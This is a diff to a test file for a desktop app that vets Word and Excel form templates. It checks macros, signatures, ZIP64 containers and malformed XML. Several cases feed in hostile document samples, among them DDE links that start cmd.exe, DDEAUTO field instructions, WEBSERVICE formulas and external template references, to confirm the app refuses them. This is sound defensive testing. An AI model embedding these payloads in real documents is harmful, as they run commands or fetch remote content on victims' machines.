@@ -3,10 +3,10 @@ import { describe, expect, test } from 'vitest';
 import { verifyForm } from '@shared/forms/form-template';
 import { nodeCodec } from '../../../electron/documents/node-codec';
 import { aCompoundFile } from '../../builders/compound-file';
-import { aDocx, documentXml, paragraph, relationshipsXml, run, textControl } from '../../builders/docx';
+import { aDocx, documentXml, MAIN_TYPE, paragraph, relationshipsXml, run, textControl } from '../../builders/docx';
 import * as excel from '../../builders/excel-fill';
 import * as word from '../../builders/word-fill';
-import { anXlsx, emptyCell, row } from '../../builders/xlsx';
+import { anXlsx, emptyCell, row, WORKBOOK_TYPE } from '../../builders/xlsx';
 import { aZip, concat, utf8, type ZipRecord } from '../../builders/zip';
 import { partsOf } from '../../support/word-text';
 
@@ -124,6 +124,19 @@ const FAULTS: readonly (readonly [fault: string, records: readonly ZipRecord[], 
   ],
   ['XML that is cut off', [part('a.xml', { content: '<a><b>' })], 'xml/malformed', /「名前を付けて保存」/],
   [
+    'an entity that nothing defines',
+    [part('a.xml', { content: '<a>&nbsp;</a>' })],
+    'xml/malformed',
+    /「名前を付けて保存」/,
+  ],
+  ['an ampersand alone', [part('a.xml', { content: '<a b="A&B"/>' })], 'xml/malformed', /「名前を付けて保存」/],
+  [
+    'an attribute twice',
+    [part('a.xml', { content: '<a b="1" c="" b="2"/>' })],
+    'xml/malformed',
+    /「名前を付けて保存」/,
+  ],
+  [
     'XML in Shift_JIS',
     [{ name: 'a.xml', content: concat([utf8('<a>'), new Uint8Array([0x97, 0xac]), utf8('</a>')]) }],
     'xml/encoding',
@@ -154,12 +167,200 @@ describe.each(forms)('picked as a %s form', (kind: Kind, name, withRecords) => {
     expect(told(name, withRecords([part('a.xml', { descriptor: true })])).code).toBe('ok');
   });
 
+  test('with what only looks like a fault of its XML is taken', () => {
+    const content =
+      '<a b="&amp;&#x20;" c=\'b="1" b="2"\'><!-- &x; <a b="" b=""/> --><![CDATA[&y;]]>b="1" b="2"<d b="1"/></a>';
+    expect(told(name, withRecords([part('a.xml', { content })])).code).toBe('ok');
+  });
+
+  test.each([
+    ['macros under their own name', [part('word/vbaProject.bin')], 'macro'],
+    ['macros under another name', [part('x/vbaProject1.bin')], 'macro'],
+    ['what macros leave behind', [part('word/vbaData.xml')], 'macro'],
+    ['macros of Excel 4', [part('xl/macrosheets/sheet1.xml')], 'macro'],
+    ['a digital signature', [part('_xmlsignatures/origin.sigs'), part('_xmlsignatures/sig1.xml')], 'signed'],
+  ])('with %s is told before anything is filled', (_, records, code) => {
+    const refused = told(name, withRecords(records));
+    expect(refused.code).toBe(`${kind}/${code}`);
+    expect(refused.message).toMatch(/ください。$/);
+  });
+
+  test.each([1, 2, 100, 4000])('with %s bytes behind its end is taken, and they are left behind', (count) => {
+    const sound = withRecords([]);
+    const padded = concat([sound, new Uint8Array(count)]);
+    const opened = verifyForm(name, padded, nodeCodec);
+    expect(opened.ok && opened.value.directory.bytes).toEqual(sound);
+    expect(told(name, concat([sound, utf8('\r\n--boundary--\r\n')])).code).toBe('ok');
+  });
+
+  test('with a whole container inside of a part is read as what it is', () => {
+    expect(told(name, withRecords([{ name: 'a.zip', content: aZip([part('b.xml')]), stored: true }])).code).toBe('ok');
+  });
+
   test('in the other format is called by its name', () => {
     const other = kind === 'word' ? anXlsx({}) : aDocx({});
     const { code, message } = told(name, other);
     expect(code).toBe(`${kind}/other-kind`);
     expect(message).toContain(kind === 'word' ? 'Excel のファイル' : 'Word のファイル');
   });
+});
+
+/** The same container as large files are written: every number in an extra field, the directory's in a record of its own. */
+function asZip64(bytes: Uint8Array): Uint8Array {
+  const view = new DataView(bytes.buffer, bytes.byteOffset, bytes.byteLength);
+  const end = bytes.length - 22;
+  const [count, start] = [view.getUint16(end + 10, true), view.getUint32(end + 16, true)];
+  const central: Uint8Array[] = [];
+  for (let at = start, i = 0; i < count; i++) {
+    const name = view.getUint16(at + 28, true);
+    const entry = new Uint8Array(46 + name + 28);
+    entry.set(bytes.subarray(at, at + 46 + name));
+    const written = new DataView(entry.buffer);
+    written.setUint16(30, 28, true);
+    written.setUint16(46 + name, 1, true);
+    written.setUint16(48 + name, 24, true);
+    for (const [k, field] of [24, 20, 42].entries()) {
+      written.setBigUint64(50 + name + 8 * k, BigInt(view.getUint32(at + field, true)), true);
+      written.setUint32(field, 0xffffffff, true);
+    }
+    central.push(entry);
+    at += 46 + name + view.getUint16(at + 30, true) + view.getUint16(at + 32, true);
+  }
+  const directory = concat(central);
+  const tail = new DataView(new ArrayBuffer(56 + 20 + 22));
+  tail.setUint32(0, 0x06064b50, true);
+  tail.setBigUint64(32, BigInt(count), true);
+  tail.setBigUint64(40, BigInt(directory.length), true);
+  tail.setBigUint64(48, BigInt(start), true);
+  tail.setUint32(56, 0x07064b50, true);
+  tail.setBigUint64(64, BigInt(start + directory.length), true);
+  tail.setUint32(76, 0x06054b50, true);
+  for (const at of [84, 86]) tail.setUint16(at, 0xffff, true);
+  for (const at of [88, 92]) tail.setUint32(at, 0xffffffff, true);
+  return concat([bytes.subarray(0, start), directory, new Uint8Array(tail.buffer)]);
+}
+
+describe('a file written as large ones are (ZIP64)', () => {
+  const docx = aDocx({ document: documentXml(paragraph(textControl('name'))) });
+  const xlsx = anXlsx({ sheets: [{ rows: row(1, emptyCell('A1')) }], names: { name: '様式1!$A$1' } });
+
+  test('is filled, and comes out as any program reads it', () => {
+    for (const [form, fill] of [
+      [docx, word.filled],
+      [xlsx, excel.filled],
+    ] as const) {
+      const large = asZip64(form);
+      expect(large).not.toEqual(form);
+      const [filled, plain] = [large, form].map((bytes) => partsOf(fill(bytes, { fields: { name: '鈴木' } }).bytes));
+      expect(filled).toEqual(plain);
+    }
+  });
+
+  test('cut off, or with any byte of its directory changed, is refused or opened, but never an accident', () => {
+    const large = asZip64(docx);
+    for (let at = large.length - 400; at < large.length; at++) {
+      const damaged = large.slice();
+      damaged[at] = (damaged[at] ?? 0) ^ 0x55;
+      expect(() => verifyForm('様式.docx', damaged, nodeCodec)).not.toThrow();
+      expect(() => verifyForm('様式.docx', large.slice(0, at), nodeCodec)).not.toThrow();
+    }
+  });
+});
+
+test('a template comes out as a document', () => {
+  const typeOf = (bytes: Uint8Array): string => new TextDecoder().decode(partsOf(bytes)['[Content_Types].xml']);
+  const docx = aDocx({
+    type: MAIN_TYPE.replace('document.main', 'template.main'),
+    body: paragraph(textControl('name')),
+  });
+  const xlsx = anXlsx({
+    type: WORKBOOK_TYPE.replace('sheet.main', 'template.main'),
+    sheets: [{ rows: row(1, emptyCell('A1')) }],
+    names: { name: '様式1!$A$1' },
+  });
+  expect(typeOf(docx)).toContain('template.main');
+  for (const one of [
+    word.filled(docx, { fields: { name: '鈴木' } }),
+    excel.filled(xlsx, { fields: { name: '鈴木' } }),
+  ]) {
+    expect(typeOf(one.bytes)).not.toContain('template.main');
+    expect(typeOf(one.bytes)).toMatch(/(?:document|sheet)\.main\+xml/);
+  }
+});
+
+describe('a workbook that asks somebody outside when it is opened', () => {
+  const formula = (text: string): string =>
+    told('様式.xlsx', anXlsx({ sheets: [{ rows: row(1, `<c r="A1"><f>${text}</f></c>`) }] })).code;
+
+  test.each(['_xlfn.WEBSERVICE("http://x/?"&amp;B1)', 'IF(B1="","",_xlfn.IMAGE(B1))', 'RTD("a",,B1)'])('%s', (text) => {
+    expect(formula(text)).toBe('form/reaches-out');
+  });
+
+  test.each(['HYPERLINK(B1,"市のページ")', 'SUM(B1:B9)', 'B1&amp;"WEBSERVICE(x)"', 'MYIMAGE(B1)'])(
+    '%s does not',
+    (text) => {
+      expect(formula(text)).toBe('ok');
+    },
+  );
+
+  test('by a name, or by DDE', () => {
+    expect(told('様式.xlsx', anXlsx({ names: { 外: 'WEBSERVICE(様式1!$A$1)' } })).code).toBe('form/reaches-out');
+    const dde = part('xl/externalLinks/externalLink1.xml', {
+      content: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
+    });
+    expect(told('様式.xlsx', anXlsx({ records: [dde] })).code).toBe('form/reaches-out');
+  });
+});
+
+describe('a Word form with a field that asks another program', () => {
+  const field = (...instruction: string[]): string =>
+    told(
+      '様式.docx',
+      aDocx({
+        body: paragraph(
+          '<w:r><w:fldChar w:fldCharType="begin"/></w:r>',
+          ...instruction.map((one) => `<w:r><w:instrText xml:space="preserve">${one}</w:instrText></w:r>`),
+          '<w:r><w:fldChar w:fldCharType="end"/></w:r>',
+        ),
+      }),
+    ).code;
+
+  test.each([
+    [' DDEAUTO c:\\windows\\cmd.exe "/k"'],
+    [' DD', 'E', 'AUTO cmd x'],
+    ['dde Excel a b'],
+    ['INCLUDETEXT "http://x/a.docx"'],
+  ])('%s%s is told', (...instruction) => {
+    expect(field(...instruction)).toBe('form/reaches-out');
+  });
+
+  test('any other is taken', () => {
+    expect(field(' PAGE \\* MERGEFORMAT ')).toBe('ok');
+    expect(field(' HYPERLINK "http://x/DDE x" ')).toBe('ok');
+  });
+});
+
+test.each([
+  ' http://cdn.example.jp/a.dotm',
+  '\n\thttps://cdn.example.jp/a',
+  'mhtml:http://cdn.example.jp/a!x-usc:http://b',
+  'http:\\\\cdn.example.jp\\a',
+])('an address with something in front of it is an address: %j', (target) => {
+  const rels = relationshipsXml([['rId1', 'attachedTemplate', target, 'External']]);
+  const bytes = aDocx({ parts: [{ name: 'word/_rels/settings.xml.rels', content: rels }] });
+  expect(told('様式.docx', bytes)).toMatchObject({ code: 'word/outside-content' });
+  expect(told('様式.docx', bytes).message).toContain('cdn.example.jp');
+});
+
+test('a workbook whose sheet isn’t in the file is refused by the sheet’s name', () => {
+  const bytes = anXlsx({
+    workbook:
+      '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">' +
+      '<sheets><sheet name="申請書" sheetId="1" r:id="rId1"/><sheet name="裏面" sheetId="2" r:id="rId7"/></sheets></workbook>',
+    workbookRels: [['rId7', 'worksheet', 'worksheets/sheet7.xml']],
+  });
+  expect(told('様式.xlsx', bytes)).toMatchObject({ code: 'excel/missing-sheet' });
+  expect(told('様式.xlsx', bytes).message).toContain('シート「裏面」');
 });
 
 test('a part that lies about its size by a thousand is stopped at that size', () => {
